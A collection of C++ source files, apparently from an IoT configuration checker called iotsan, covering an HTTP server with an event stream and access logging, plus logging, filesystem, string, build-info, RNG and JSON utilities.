  std::string out = "HTTP/1.1 " + std::to_string(response.status) + " " +
                    ReasonPhrase(response.status) + "\r\n";
  out += "Content-Type: " + response.content_type + "\r\n";
  for (const auto& [name, value] : response.headers) {
    out += name + ": " + value + "\r\n";
  }
  out += "Content-Length: " + std::to_string(response.body.size()) + "\r\n";
  out += response.close ? "Connection: close\r\n" : "Connection: keep-alive\r\n";
  out += "\r\n";
  out += response.body;
  return out;
}

namespace {

bool SendAll(int fd, const std::string& wire) {
  std::size_t sent = 0;
  while (sent < wire.size()) {
    const ssize_t n =
        ::send(fd, wire.data() + sent, wire.size() - sent, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    sent += static_cast<std::size_t>(n);
  }
  return true;
}

}  // namespace

bool WriteHttpResponse(int fd, const HttpResponse& response) {
  return SendAll(fd, SerializeResponse(response));
}

std::string SerializeStreamHead(const HttpResponse& head) {
  std::string out = "HTTP/1.1 " + std::to_string(head.status) + " " +
                    ReasonPhrase(head.status) + "\r\n";
  out += "Content-Type: " + head.content_type + "\r\n";
  for (const auto& [name, value] : head.headers) {
    out += name + ": " + value + "\r\n";
  }
  out += "Transfer-Encoding: chunked\r\n";
  out += "Connection: close\r\n";
  out += "\r\n";
  return out;
}

bool WriteStreamHead(int fd, const HttpResponse& head) {
  return SendAll(fd, SerializeStreamHead(head));
}

bool WriteChunk(int fd, std::string_view data) {
  if (data.empty()) return true;
  char size_hex[32];
  std::snprintf(size_hex, sizeof size_hex, "%zx\r\n", data.size());
  std::string wire = size_hex;
  wire.append(data.data(), data.size());
  wire += "\r\n";
  return SendAll(fd, wire);
}

bool WriteLastChunk(int fd) { return SendAll(fd, "0\r\n\r\n"); }

bool PeerClosed(int fd) {
  struct pollfd pfd = {fd, POLLIN, 0};
  const int ready = ::poll(&pfd, 1, 0);
  if (ready < 0) return errno != EINTR;
  if (ready == 0) return false;
  if (pfd.revents & (POLLERR | POLLNVAL)) return true;
  // POLLIN or POLLHUP: distinguish "peer sent bytes" from "peer closed"
  // by reading — an SSE client has nothing meaningful to say, so any
  // payload is discarded.
  char scratch[256];
  while (true) {
    const ssize_t n = ::recv(fd, scratch, sizeof scratch, MSG_DONTWAIT);
    if (n == 0) return true;  // orderly close
    if (n < 0) {
      if (errno == EINTR) continue;
      return errno != EAGAIN && errno != EWOULDBLOCK;
    }
    if (static_cast<std::size_t>(n) < sizeof scratch) return false;
  }
}

}  // namespace iotsan::server
