#include "server/server.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "props/property.hpp"
#include "telemetry/telemetry.hpp"
#include "util/error.hpp"
#include "util/fs.hpp"
#include "util/json.hpp"
#include "util/log.hpp"

namespace iotsan::server {

namespace {

constexpr int kAcceptPollMs = 200;
/// SSE stream cadence: how often the event queue and the peer's
/// liveness are checked, and how often an idle stream emits a comment
/// frame so intermediaries do not time it out.
constexpr int kEventPollMs = 100;
constexpr int kEventKeepaliveMs = 15'000;

void CloseFd(int fd) {
  if (fd >= 0) ::close(fd);
}

std::uint64_t ElapsedUs(std::chrono::steady_clock::time_point start) {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::microseconds>(
          std::chrono::steady_clock::now() - start)
          .count());
}

}  // namespace

AccessLog::AccessLog(const std::string& path)
    : path_(path), epoch_(std::chrono::system_clock::now()) {
  if (!util::OpenAppend(out_, path)) {
    throw Error("serve: cannot open access log: " + path);
  }
}

void AccessLog::Write(const Entry& entry) {
  json::Object line;
  line["ts"] = std::chrono::duration<double>(
                   std::chrono::system_clock::now().time_since_epoch())
                   .count();
  line["id"] = entry.request_id;
  line["method"] = entry.method;
  line["path"] = entry.path;
  line["status"] = entry.status;
  line["latency_us"] = static_cast<std::int64_t>(entry.latency_us);
  line["queue_us"] = static_cast<std::int64_t>(entry.queue_us);
  line["bytes"] = static_cast<std::int64_t>(entry.bytes);
  if (!entry.error_code.empty()) {
    json::Object error;
    error["code"] = entry.error_code;
    line["error"] = std::move(error);
  }
  if (!entry.deployment.empty()) line["deployment"] = entry.deployment;
  line["cache_hits"] = static_cast<std::int64_t>(entry.cache_hits);
  line["cache_misses"] = static_cast<std::int64_t>(entry.cache_misses);
  const std::string text = json::Value(std::move(line)).Dump(0);
  std::lock_guard<std::mutex> lock(mutex_);
  buffer_ += text;
  buffer_ += '\n';
  if (buffer_.size() >= kFlushThresholdBytes) FlushLocked();
}

void AccessLog::FlushLocked() {
  if (!buffer_.empty()) {
    out_ << buffer_;
    buffer_.clear();
  }
  out_.flush();
}

void AccessLog::Flush() {
  std::lock_guard<std::mutex> lock(mutex_);
  FlushLocked();
}

void AccessLog::Reopen() {
  std::lock_guard<std::mutex> lock(mutex_);
  FlushLocked();
  std::ofstream reopened;
  if (!util::OpenAppend(reopened, path_)) {
    util::LogWarn("server", "access log reopen failed; keeping old stream",
                  {{"path", path_}});
    return;
  }
  out_ = std::move(reopened);
  util::LogInfo("server", "access log reopened", {{"path", path_}});
}

Server::Server(ServerConfig config) : config_(std::move(config)) {}

Server::~Server() { Stop(); }

void Server::Start() {
  if (running_.load()) return;
  stopping_.store(false);

  // Warm state shared by every request: the checker pool and the result
  // cache.  Pre-parse the built-in property expressions once — they are
  // lazily cached globals, and concurrent sessions must not race on the
  // first parse.
  pool_ = std::make_unique<util::ThreadPool>(
      util::ResolveJobs(config_.jobs));
  if (!config_.access_log_path.empty()) {
    access_log_ = std::make_unique<AccessLog>(config_.access_log_path);
  }
  cache::CacheConfig cache_config;
  cache_config.dir = config_.cache_dir;
  cache_ = std::make_unique<cache::ResultCache>(cache_config);
  registry::StoreConfig store_config;
  store_config.dir = config_.registry_dir;
  fleet_ = std::make_unique<registry::Fleet>(store_config);
  for (const props::Property& p : props::BuiltinProperties()) {
    if (p.kind == props::PropertyKind::kInvariant) p.ParsedExpression();
  }
  if (auto* t = telemetry::Active()) {
    ++t->parallel.pools_created;
    t->parallel.workers_spawned += pool_->jobs() - 1;
  }

  service_.env.pool = pool_.get();
  service_.env.cache = cache_.get();
  service_.request_deadline_seconds = config_.request_deadline_seconds;
  service_.draining = &stopping_;
  service_.active_connections = &active_connections_;
  service_.queue_depth = &queue_depth_;
  service_.start_time = std::chrono::steady_clock::now();
  service_.inflight = &inflight_;
  service_.events = &events_;
  service_.registry = fleet_.get();
  if (config_.coordinator && !config_.cluster.workers.empty()) {
    coordinator_ = std::make_unique<cluster::Coordinator>(config_.cluster);
    coordinator_->ProbeWorkers();
  }
  service_.coordinator = coordinator_.get();

  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) throw Error("serve: cannot create socket");
  const int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  struct sockaddr_in addr = {};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<std::uint16_t>(config_.port));
  if (::inet_pton(AF_INET, config_.host.c_str(), &addr.sin_addr) != 1) {
    CloseFd(listen_fd_);
    listen_fd_ = -1;
    throw Error("serve: invalid bind address: " + config_.host);
  }
  if (::bind(listen_fd_, reinterpret_cast<struct sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    const std::string reason = std::strerror(errno);
    CloseFd(listen_fd_);
    listen_fd_ = -1;
    throw Error("serve: cannot bind " + config_.host + ":" +
                std::to_string(config_.port) + ": " + reason);
  }
  if (::listen(listen_fd_, 128) != 0) {
    CloseFd(listen_fd_);
    listen_fd_ = -1;
    throw Error("serve: listen failed");
  }
  socklen_t len = sizeof(addr);
  ::getsockname(listen_fd_, reinterpret_cast<struct sockaddr*>(&addr), &len);
  port_ = static_cast<int>(ntohs(addr.sin_port));

  running_.store(true);
  const int workers = config_.http_workers < 1 ? 1 : config_.http_workers;
  sessions_.reserve(static_cast<std::size_t>(workers));
  for (int i = 0; i < workers; ++i) {
    sessions_.emplace_back([this] { SessionMain(); });
  }
  acceptor_ = std::thread([this] { AcceptorMain(); });
}

void Server::Stop() {
  if (!running_.load()) return;
  stopping_.store(true);
  if (acceptor_.joinable()) acceptor_.join();
  // The acceptor is done: whatever sits in the queue is the complete
  // set of accepted-but-unserved connections.  Wake the sessions so
  // they drain it and exit.
  queue_cv_.notify_all();
  for (std::thread& session : sessions_) {
    if (session.joinable()) session.join();
  }
  sessions_.clear();
  CloseFd(listen_fd_);
  listen_fd_ = -1;
  if (auto* t = telemetry::Active()) {
    const util::ThreadPool::Stats stats = pool_->stats();
    t->parallel.tasks_run += stats.tasks_run;
    t->parallel.tasks_stolen += stats.tasks_stolen;
  }
  pool_.reset();
  running_.store(false);
  if (access_log_ != nullptr) access_log_->Flush();
  if (auto* sink = telemetry::ActiveTrace()) sink->Flush();
}

void Server::RotateAccessLog() {
  if (access_log_ != nullptr) access_log_->Reopen();
}

Server::Stats Server::stats() const {
  return {connections_accepted_.load(), requests_served_.load(),
          shed_queue_full_.load()};
}

void Server::AcceptorMain() {
  while (!stopping_.load(std::memory_order_relaxed)) {
    struct pollfd pfd = {listen_fd_, POLLIN, 0};
    const int ready = ::poll(&pfd, 1, kAcceptPollMs);
    if (ready < 0 && errno != EINTR) break;
    if (ready <= 0) continue;
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) continue;
    connections_accepted_.fetch_add(1, std::memory_order_relaxed);
    if (auto* t = telemetry::Active()) ++t->server.connections_accepted;

    bool shed = false;
    {
      std::lock_guard<std::mutex> lock(queue_mutex_);
      if (queue_.size() >= config_.max_queue) {
        shed = true;
      } else {
        queue_.push_back({fd, std::chrono::steady_clock::now()});
        queue_depth_.store(queue_.size(), std::memory_order_relaxed);
      }
    }
    if (shed) {
      // Load shedding in the acceptor: answer without buffering the
      // request so a burst cannot OOM the server.
      shed_queue_full_.fetch_add(1, std::memory_order_relaxed);
      if (auto* t = telemetry::Active()) ++t->server.shed_queue_full;
      HttpResponse response = ErrorResponse(
          503, kErrQueueFull,
          "request queue is full; retry with backoff");
      response.close = true;
      WriteHttpResponse(fd, response);
      CloseFd(fd);
      continue;
    }
    queue_cv_.notify_one();
  }
}

bool Server::PopConnection(int& fd, std::uint64_t& queue_wait_us) {
  QueuedConnection conn;
  {
    std::unique_lock<std::mutex> lock(queue_mutex_);
    queue_cv_.wait(lock, [this] {
      return !queue_.empty() || stopping_.load(std::memory_order_relaxed);
    });
    // Drain semantics: even while stopping, accepted connections are
    // served; a session only exits once the queue is empty.
    if (queue_.empty()) return false;
    conn = queue_.front();
    queue_.pop_front();
    queue_depth_.store(queue_.size(), std::memory_order_relaxed);
  }
  fd = conn.fd;
  queue_wait_us = ElapsedUs(conn.enqueued);
  if (auto* t = telemetry::Active()) {
    t->server_hist.queue_wait_us.Record(queue_wait_us);
  }
  return true;
}

void Server::SessionMain() {
  while (true) {
    int fd = -1;
    std::uint64_t queue_wait_us = 0;
    if (!PopConnection(fd, queue_wait_us)) {
      if (stopping_.load(std::memory_order_relaxed)) return;
      continue;
    }
    active_connections_.fetch_add(1, std::memory_order_relaxed);
    requests_served_.fetch_add(ServeConnection(fd, queue_wait_us),
                               std::memory_order_relaxed);
    active_connections_.fetch_sub(1, std::memory_order_relaxed);
  }
}

std::uint64_t Server::ServeConnection(int fd, std::uint64_t queue_wait_us) {
  ReadLimits limits;
  limits.max_body_bytes = config_.max_body_bytes;
  ConnectionBuffer buffer;
  std::uint64_t served = 0;
  while (true) {
    HttpRequest request;
    const ReadStatus status =
        ReadHttpRequest(fd, limits, &stopping_, buffer, request);
    HttpResponse response;
    RequestContext context;
    // The queue wait belongs to the connection's first request; later
    // keep-alive requests never sat in the accept queue.
    const std::uint64_t request_queue_us = served == 0 ? queue_wait_us : 0;
    const auto handle_start = std::chrono::steady_clock::now();
    auto* t_before = telemetry::Active();
    const std::uint64_t hits_before =
        t_before != nullptr
            ? t_before->cache.hits.load(std::memory_order_relaxed)
            : 0;
    const std::uint64_t misses_before =
        t_before != nullptr
            ? t_before->cache.misses.load(std::memory_order_relaxed)
            : 0;
    switch (status) {
      case ReadStatus::kOk: {
        if (auto* t = telemetry::Active()) {
          t->server_hist.request_body_bytes.Record(request.body.size());
        }
        const std::string path =
            request.target.substr(0, request.target.find('?'));
        if (request.method == "GET" && path == "/v1/events") {
          // The SSE endpoint holds its response open for the rest of
          // the connection (chunked frames), so it is served here,
          // outside Route's one-request/one-response shape.
          if (auto* t = telemetry::Active()) ++t->server.requests;
          const auto id_header = request.headers.find("x-request-id");
          const std::string stream_id =
              id_header != request.headers.end() &&
                      IsValidRequestId(id_header->second)
                  ? id_header->second
                  : GenerateRequestId();
          const std::uint64_t stream_us = ServeEventStream(fd, stream_id);
          if (auto* t = telemetry::Active()) ++t->server.responses_ok;
          if (access_log_ != nullptr) {
            AccessLog::Entry entry;
            entry.request_id = stream_id;
            entry.method = request.method;
            entry.path = path;
            entry.status = 200;
            entry.latency_us = stream_us;
            entry.queue_us = request_queue_us;
            access_log_->Write(entry);
          }
          CloseFd(fd);
          return served + 1;
        }
        response = Route(request, service_, &context);
        ++served;
        break;
      }
      case ReadStatus::kClosed:
      case ReadStatus::kInterrupted:
        CloseFd(fd);
        return served;
      case ReadStatus::kTooLarge:
        if (auto* t = telemetry::Active()) ++t->server.shed_oversized;
        context.request_id = GenerateRequestId();
        context.error_code = kErrTooLarge;
        response = ErrorResponse(
            413, kErrTooLarge,
            "request exceeds the server limits (max body " +
                std::to_string(config_.max_body_bytes) + " bytes)",
            context.request_id);
        response.close = true;
        break;
      case ReadStatus::kTimeout:
        context.request_id = GenerateRequestId();
        context.error_code = kErrTimeout;
        response = ErrorResponse(408, kErrTimeout,
                                 "idle connection timed out",
                                 context.request_id);
        response.close = true;
        break;
      case ReadStatus::kMalformed:
        if (auto* t = telemetry::Active()) ++t->server.bad_requests;
        context.request_id = GenerateRequestId();
        context.error_code = kErrBadRequest;
        response = ErrorResponse(400, kErrBadRequest,
                                 "malformed HTTP request",
                                 context.request_id);
        response.close = true;
        break;
    }
    const std::uint64_t latency_us = ElapsedUs(handle_start);
    if (status == ReadStatus::kOk) {
      if (auto* t = telemetry::Active()) {
        t->server_hist.request_duration_us.Record(latency_us);
      }
    }
    if (access_log_ != nullptr) {
      AccessLog::Entry entry;
      entry.request_id = context.request_id;
      entry.method = request.method;
      entry.path =
          request.target.substr(0, request.target.find('?'));
      entry.status = response.status;
      entry.latency_us = latency_us;
      entry.queue_us = request_queue_us;
      entry.bytes = request.body.size();
      entry.error_code = context.error_code;
      entry.deployment = context.deployment_id;
      if (auto* t = telemetry::Active()) {
        entry.cache_hits =
            t->cache.hits.load(std::memory_order_relaxed) - hits_before;
        entry.cache_misses =
            t->cache.misses.load(std::memory_order_relaxed) - misses_before;
      }
      access_log_->Write(entry);
    }
    if (status == ReadStatus::kOk &&
        stopping_.load(std::memory_order_relaxed)) {
      // Drain: answer the request we already accepted, then close.
      response.close = true;
    }
    const bool ok = WriteHttpResponse(fd, response);
    if (!ok || response.close || !request.KeepAlive()) {
      CloseFd(fd);
      return served;
    }
  }
}

std::uint64_t Server::ServeEventStream(int fd,
                                       const std::string& request_id) {
  const auto start = std::chrono::steady_clock::now();
  std::shared_ptr<EventBroker::Subscription> subscription =
      events_.Subscribe();
  util::LogDebug("server", "sse stream opened",
                 {{"request_id", request_id}});
  HttpResponse head;
  head.status = 200;
  head.content_type = "text/event-stream";
  head.headers.emplace_back("Cache-Control", "no-cache");
  head.headers.emplace_back("X-Request-Id", request_id);
  bool ok = WriteStreamHead(fd, head);
  if (ok) {
    // Opening event: the subscriber knows the stream is live before the
    // first progress tick (which may be seconds away).
    ok = WriteChunk(fd, "event: hello\ndata: {\"request_id\":\"" +
                            request_id + "\"}\n\n");
  }
  int idle_ms = 0;
  while (ok && !stopping_.load(std::memory_order_relaxed)) {
    Event event;
    if (subscription->Next(event, kEventPollMs)) {
      idle_ms = 0;
      ok = WriteChunk(fd, "event: " + event.name + "\ndata: " +
                              event.data + "\n\n");
      continue;
    }
    if (PeerClosed(fd)) break;
    idle_ms += kEventPollMs;
    if (idle_ms >= kEventKeepaliveMs) {
      // SSE comment frame: ignored by clients, keeps proxies from
      // timing out an idle stream.
      ok = WriteChunk(fd, ": keepalive\n\n");
      idle_ms = 0;
    }
  }
  if (ok) WriteLastChunk(fd);
  events_.Unsubscribe(subscription);
  util::LogDebug("server", "sse stream closed",
                 {{"request_id", request_id},
                  {"dropped_events", subscription->dropped()}});
  return ElapsedUs(start);
}

}  // namespace iotsan::server
