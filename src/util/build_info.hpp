// Build identification: version, compiler, and build type.
//
// Every reported incident must be traceable to the binary that produced
// it, so the CLI's --version output and the run manifest embedded in
// violation artifacts (checker/trace.hpp) share this single source.
#pragma once

#include <string>

namespace iotsan::build {

struct BuildInfo {
  std::string version;     // project version ("0.2.0")
  std::string compiler;    // "gcc 13.2.0" / "clang 17.0.1"
  std::string build_type;  // CMAKE_BUILD_TYPE ("RelWithDebInfo")
  std::string standard;    // "C++20"
};

const BuildInfo& GetBuildInfo();

/// One-line rendering: "iotsan 0.2.0 (gcc 13.2.0, RelWithDebInfo, C++20)".
std::string VersionLine();

}  // namespace iotsan::build
