#include "util/fs.hpp"

#include <filesystem>
#include <sstream>
#include <thread>

namespace iotsan::util {

namespace fs = std::filesystem;

bool AtomicWriteFile(const std::string& path, std::string_view contents) {
  // Temp-file + rename keeps readers from ever seeing a half-written
  // file; the thread-id suffix keeps concurrent writers (different
  // processes sharing one directory) off each other's temp files.
  const std::string tmp =
      path + ".tmp." +
      std::to_string(std::hash<std::thread::id>{}(std::this_thread::get_id()) &
                     0xffffff);
  std::error_code ec;
  {
    std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
    if (!out) return false;  // unwritable directory degrades to no-op
    out.write(contents.data(),
              static_cast<std::streamsize>(contents.size()));
    if (!out.good()) {
      fs::remove(tmp, ec);
      return false;
    }
  }
  fs::rename(tmp, path, ec);
  if (ec) {
    fs::remove(tmp, ec);
    return false;
  }
  return true;
}

std::string ReadFileOrEmpty(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return {};
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

bool OpenAppend(std::ofstream& out, const std::string& path) {
  out.close();
  out.clear();
  out.open(path, std::ios::app);
  if (!out.is_open()) return false;
  return true;
}

}  // namespace iotsan::util
