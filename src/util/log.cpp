#include "util/log.hpp"

#include <sys/time.h>

#include <cinttypes>
#include <cstring>
#include <ctime>
#include <mutex>

namespace iotsan::util {

namespace {

std::atomic<int> g_level{static_cast<int>(LogLevel::kWarn)};
std::atomic<bool> g_json{false};
std::atomic<std::FILE*> g_stream{nullptr};  // nullptr = stderr
std::mutex g_write_mutex;

/// "2026-08-08T12:34:56.123Z" into `buf` (UTC, millisecond precision).
void FormatTimestamp(char* buf, std::size_t size) {
  struct timeval tv = {};
  gettimeofday(&tv, nullptr);
  struct tm tm_utc = {};
  const time_t secs = tv.tv_sec;
  gmtime_r(&secs, &tm_utc);
  char date[32];
  std::strftime(date, sizeof(date), "%Y-%m-%dT%H:%M:%S", &tm_utc);
  std::snprintf(buf, size, "%s.%03ldZ", date,
                static_cast<long>(tv.tv_usec / 1000));
}

void AppendJsonEscaped(std::string& out, std::string_view text) {
  out += '"';
  for (const char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char hex[8];
          std::snprintf(hex, sizeof(hex), "\\u%04x",
                        static_cast<unsigned>(static_cast<unsigned char>(c)));
          out += hex;
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

void AppendFieldValueJson(std::string& out, const LogField& field) {
  char num[40];
  switch (field.kind) {
    case LogField::Kind::kString:
      AppendJsonEscaped(out, field.str);
      break;
    case LogField::Kind::kInt:
      std::snprintf(num, sizeof(num), "%" PRId64, field.i);
      out += num;
      break;
    case LogField::Kind::kUint:
      std::snprintf(num, sizeof(num), "%" PRIu64, field.u);
      out += num;
      break;
    case LogField::Kind::kDouble:
      std::snprintf(num, sizeof(num), "%g", field.d);
      out += num;
      break;
    case LogField::Kind::kBool:
      out += field.b ? "true" : "false";
      break;
  }
}

void AppendFieldValueText(std::string& out, const LogField& field) {
  if (field.kind != LogField::Kind::kString) {
    AppendFieldValueJson(out, field);
    return;
  }
  // Bare when unambiguous; quoted when the value contains separators.
  const bool needs_quotes =
      field.str.empty() ||
      field.str.find_first_of(" \t\n\"=") != std::string_view::npos;
  if (needs_quotes) {
    AppendJsonEscaped(out, field.str);
  } else {
    out += field.str;
  }
}

const char* LevelTag(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug: return "DEBUG";
    case LogLevel::kInfo: return "INFO";
    case LogLevel::kWarn: return "WARN";
    case LogLevel::kError: return "ERROR";
    case LogLevel::kOff: return "OFF";
  }
  return "?";
}

}  // namespace

const char* LogLevelName(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug: return "debug";
    case LogLevel::kInfo: return "info";
    case LogLevel::kWarn: return "warn";
    case LogLevel::kError: return "error";
    case LogLevel::kOff: return "off";
  }
  return "?";
}

bool ParseLogLevel(std::string_view text, LogLevel& out) {
  if (text == "debug") out = LogLevel::kDebug;
  else if (text == "info") out = LogLevel::kInfo;
  else if (text == "warn" || text == "warning") out = LogLevel::kWarn;
  else if (text == "error") out = LogLevel::kError;
  else if (text == "off" || text == "none") out = LogLevel::kOff;
  else return false;
  return true;
}

void SetLogLevel(LogLevel level) {
  g_level.store(static_cast<int>(level), std::memory_order_relaxed);
}

LogLevel GetLogLevel() {
  return static_cast<LogLevel>(g_level.load(std::memory_order_relaxed));
}

bool LogEnabled(LogLevel level) {
  return static_cast<int>(level) >=
         g_level.load(std::memory_order_relaxed);
}

void SetLogJson(bool json) {
  g_json.store(json, std::memory_order_relaxed);
}

void SetLogStream(std::FILE* stream) {
  g_stream.store(stream, std::memory_order_relaxed);
}

void Log(LogLevel level, std::string_view component,
         std::string_view message, std::initializer_list<LogField> fields) {
  if (!LogEnabled(level)) return;
  char ts[48];
  FormatTimestamp(ts, sizeof(ts));

  std::string line;
  line.reserve(128);
  if (g_json.load(std::memory_order_relaxed)) {
    line += "{\"ts\":\"";
    line += ts;
    line += "\",\"level\":\"";
    line += LogLevelName(level);
    line += "\",\"component\":";
    AppendJsonEscaped(line, component);
    line += ",\"msg\":";
    AppendJsonEscaped(line, message);
    for (const LogField& field : fields) {
      line += ',';
      AppendJsonEscaped(line, field.key);
      line += ':';
      AppendFieldValueJson(line, field);
    }
    line += "}\n";
  } else {
    line += ts;
    line += ' ';
    line += LevelTag(level);
    line += ' ';
    line += component;
    line += ": ";
    line += message;
    for (const LogField& field : fields) {
      line += ' ';
      line += field.key;
      line += '=';
      AppendFieldValueText(line, field);
    }
    line += '\n';
  }

  std::FILE* stream = g_stream.load(std::memory_order_relaxed);
  if (stream == nullptr) stream = stderr;
  // One locked write per line: loggers on different threads never
  // interleave, and a line is visible as soon as the call returns.
  std::lock_guard<std::mutex> lock(g_write_mutex);
  std::fwrite(line.data(), 1, line.size(), stream);
  std::fflush(stream);
}

}  // namespace iotsan::util
