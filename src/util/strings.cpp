#include "util/strings.hpp"

#include <algorithm>
#include <cctype>
#include <cmath>
#include <cstdio>

namespace iotsan::strings {

namespace {
bool IsSpace(char c) {
  return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' ||
         c == '\v';
}
}  // namespace

std::string_view Trim(std::string_view s) {
  std::size_t begin = 0;
  while (begin < s.size() && IsSpace(s[begin])) ++begin;
  std::size_t end = s.size();
  while (end > begin && IsSpace(s[end - 1])) --end;
  return s.substr(begin, end - begin);
}

std::vector<std::string> Split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (std::size_t i = 0; i <= s.size(); ++i) {
    if (i == s.size() || s[i] == sep) {
      out.emplace_back(s.substr(start, i - start));
      start = i + 1;
    }
  }
  return out;
}

std::vector<std::string> SplitTrimmed(std::string_view s, char sep) {
  std::vector<std::string> out;
  for (const std::string& field : Split(s, sep)) {
    std::string_view trimmed = Trim(field);
    if (!trimmed.empty()) out.emplace_back(trimmed);
  }
  return out;
}

std::string Join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i > 0) out += sep;
    out += parts[i];
  }
  return out;
}

bool StartsWith(std::string_view s, std::string_view prefix) {
  return s.substr(0, prefix.size()) == prefix;
}

bool EndsWith(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() &&
         s.substr(s.size() - suffix.size()) == suffix;
}

std::string ToLower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), [](unsigned char c) {
    return static_cast<char>(std::tolower(c));
  });
  return out;
}

std::string ReplaceAll(std::string_view s, std::string_view from,
                       std::string_view to) {
  if (from.empty()) return std::string(s);
  std::string out;
  std::size_t pos = 0;
  while (pos < s.size()) {
    std::size_t hit = s.find(from, pos);
    if (hit == std::string_view::npos) {
      out.append(s.substr(pos));
      break;
    }
    out.append(s.substr(pos, hit - pos));
    out.append(to);
    pos = hit + from.size();
  }
  return out;
}

bool IsIdentifier(std::string_view s) {
  if (s.empty()) return false;
  if (!(std::isalpha(static_cast<unsigned char>(s[0])) || s[0] == '_')) {
    return false;
  }
  return std::all_of(s.begin(), s.end(), [](unsigned char c) {
    return std::isalnum(c) || c == '_';
  });
}

std::string FormatNumber(double value) {
  if (value == std::floor(value) && std::abs(value) < 1e15) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.0f", value);
    return buf;
  }
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%g", value);
  return buf;
}

std::string PadRight(std::string_view s, std::size_t width) {
  std::string out(s);
  if (out.size() < width) out.append(width - out.size(), ' ');
  return out;
}

std::string PadLeft(std::string_view s, std::size_t width) {
  std::string out(s);
  if (out.size() < width) out.insert(out.begin(), width - out.size(), ' ');
  return out;
}

}  // namespace iotsan::strings
