#include "util/build_info.hpp"

namespace iotsan::build {

namespace {

#ifndef IOTSAN_VERSION
#define IOTSAN_VERSION "0.0.0"
#endif
#ifndef IOTSAN_BUILD_TYPE
#define IOTSAN_BUILD_TYPE "unknown"
#endif

std::string CompilerString() {
#if defined(__clang__)
  return "clang " + std::to_string(__clang_major__) + "." +
         std::to_string(__clang_minor__) + "." +
         std::to_string(__clang_patchlevel__);
#elif defined(__GNUC__)
  return "gcc " + std::to_string(__GNUC__) + "." +
         std::to_string(__GNUC_MINOR__) + "." +
         std::to_string(__GNUC_PATCHLEVEL__);
#else
  return "unknown";
#endif
}

std::string StandardString() {
#if __cplusplus >= 202302L
  return "C++23";
#elif __cplusplus >= 202002L
  return "C++20";
#else
  return "C++17";
#endif
}

}  // namespace

const BuildInfo& GetBuildInfo() {
  static const BuildInfo info = {IOTSAN_VERSION, CompilerString(),
                                 IOTSAN_BUILD_TYPE, StandardString()};
  return info;
}

std::string VersionLine() {
  const BuildInfo& info = GetBuildInfo();
  return "iotsan " + info.version + " (" + info.compiler + ", " +
         info.build_type + ", " + info.standard + ")";
}

}  // namespace iotsan::build
