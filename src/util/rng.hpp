// Deterministic random number generation.
//
// All stochastic workload generation in iotsan (the simulated
// "volunteer" configurations of paper §10.1, randomized test sweeps) is
// seeded explicitly so every experiment is reproducible bit-for-bit.
#pragma once

#include <cstdint>

namespace iotsan {

/// SplitMix64 generator: tiny state, excellent statistical quality for
/// non-cryptographic use, fully deterministic from the seed.
class Rng {
 public:
  explicit Rng(std::uint64_t seed) : state_(seed) {}

  /// Next raw 64-bit value.
  std::uint64_t Next();

  /// Uniform integer in [0, bound). `bound` must be > 0.
  std::uint64_t NextBelow(std::uint64_t bound);

  /// Uniform integer in [lo, hi] inclusive.
  std::int64_t NextInRange(std::int64_t lo, std::int64_t hi);

  /// Uniform double in [0, 1).
  double NextDouble();

  /// Bernoulli draw with probability `p`.
  bool NextBool(double p);

 private:
  std::uint64_t state_;
};

}  // namespace iotsan
