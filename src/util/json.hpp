// Minimal JSON document model, parser, and writer.
//
// iotsan uses JSON for deployment configurations (the output of the paper's
// Configuration Extractor, §7) and for IFTTT applets (§11).  This parser
// supports the full JSON grammar plus two ergonomic extensions used by the
// bundled configuration files: // line comments and trailing commas.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

namespace iotsan::json {

class Value;

using Array = std::vector<Value>;
/// std::map keeps object keys ordered, which makes serialized output and
/// error messages deterministic.
using Object = std::map<std::string, Value>;

enum class Type { kNull, kBool, kNumber, kString, kArray, kObject };

/// A JSON value.  Small enough to copy; arrays/objects use value semantics.
class Value {
 public:
  Value() : type_(Type::kNull) {}
  Value(std::nullptr_t) : type_(Type::kNull) {}  // NOLINT(google-explicit-constructor)
  Value(bool b) : type_(Type::kBool), bool_(b) {}  // NOLINT
  Value(double d) : type_(Type::kNumber), number_(d) {}  // NOLINT
  Value(int i) : type_(Type::kNumber), number_(i) {}  // NOLINT
  Value(std::int64_t i)  // NOLINT
      : type_(Type::kNumber), number_(static_cast<double>(i)) {}
  Value(std::string s);  // NOLINT
  Value(const char* s);  // NOLINT
  Value(Array a);        // NOLINT
  Value(Object o);       // NOLINT

  Value(const Value& other);
  Value(Value&& other) noexcept;
  Value& operator=(const Value& other);
  Value& operator=(Value&& other) noexcept;
  ~Value() = default;

  Type type() const { return type_; }
  bool is_null() const { return type_ == Type::kNull; }
  bool is_bool() const { return type_ == Type::kBool; }
